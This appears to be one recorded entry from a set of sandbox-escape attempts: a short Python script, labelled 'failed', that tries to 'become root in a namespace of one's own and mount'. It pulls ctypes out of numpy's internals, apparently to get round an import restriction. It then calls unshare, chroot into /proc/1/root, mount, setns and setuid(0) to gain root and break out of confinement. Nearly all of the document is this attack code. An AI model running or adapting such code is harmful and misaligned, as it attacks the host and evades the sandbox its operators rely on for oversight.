# /// attack
# rows = [63]
# title = "become root in a namespace of one's own and mount"
# verdict = "failed"
# ///
import numpy as np

ctypes = np.ctypeslib.as_array.__globals__["ctypes"]
libc = ctypes.CDLL(None)
print(libc.unshare(0x10000000), libc.unshare(0x00020000), libc.chroot(b"/proc/1/root"))
print(libc.mount(b"/", b"/tmp/home", None, 4096, None), libc.setns(3, 0), libc.setuid(0))
